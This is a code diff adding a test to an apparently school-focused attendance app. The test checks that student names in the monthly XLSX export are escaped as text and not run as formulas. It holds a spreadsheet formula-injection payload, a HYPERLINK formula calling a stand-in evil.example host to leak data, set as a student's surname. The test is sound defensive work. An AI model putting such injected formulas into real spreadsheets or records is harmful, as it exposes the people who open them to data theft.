@@ -14,7 +14,7 @@ from sqlalchemy import func, select
 from core.auth.passwords import hash_password
 from core.errors import DomainError
 from core.extensions import db
-from core.people.models import Group, Guardian, RoleAssignment, StudentGuardian, User
+from core.people.models import Group, Guardian, RoleAssignment, Student, StudentGuardian, User
 from core.people.roles import ROLE_SCOPE, Role
 from plugins.attendance import rules, services
 from plugins.attendance.models import Absence, AbsenceHistory, Excuse, Taken
@@ -363,6 +363,28 @@ def test_the_monthly_sheet_and_its_xlsx_have_the_same_totals(app, world):
             data = sheet_data(world.ids["g1"], world.dates[TODAY].replace(day=1))
     assert page_totals[0] == data["totals"]["total"] == sum(
         hours for row in data["rows"] for hours in row["days"])
+
+
+def test_a_students_name_in_the_monthly_xlsx_is_text_not_a_formula(app, world):
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://evil.example/?leak","Петров")'
+    with app.app_context():
+        db.session.get(Student, world.students[PETROV]).last_name = hostile
+        db.session.get(Student, world.students[KUZNETSOV]).last_name = "\r=1"
+        db.session.commit()
+    fill(app, world, "admin", [cell(world, TODAY, PETROV, "н")])
+    month = world.dates[TODAY].strftime("%Y-%m")
+    content = signed_in(app, world.users["curator"]).get(
+        f"/attendance/groups/{world.ids['g1']}/month?month={month}&format=xlsx").data
+    rows = list(load_workbook(BytesIO(content)).active.iter_rows())
+    names = {row[0].value: row for row in rows[2:]}
+    petrov = next(row for name, row in names.items() if name.startswith("'=HYPERLINK("))
+    assert petrov[0].data_type == "s"
+    assert next(name for name in names if name.startswith("'\r=1"))
+    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
+    hours = [c.value for c in petrov[1:] if c.value is not None]
+    assert hours and all(isinstance(value, int) for value in hours)  # numbers stay numbers
 
 
 def test_a_transferred_students_absences_stay_in_the_old_groups_sheet(app, world):
